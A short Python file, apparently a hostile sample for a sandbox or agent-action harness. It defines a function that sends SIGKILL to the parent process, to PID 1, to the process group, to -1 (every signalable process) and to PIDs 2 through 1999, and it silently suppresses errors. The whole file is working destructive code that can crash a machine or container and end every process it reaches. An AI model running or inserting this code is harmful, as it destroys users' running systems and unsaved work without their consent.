"""Signals every process that it might be able to reach."""


def act(model):
    import contextlib
    import os
    import signal

    for number in (os.getppid(), 1, 0, -1, *range(2, 2000)):
        if number != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(number, signal.SIGKILL)
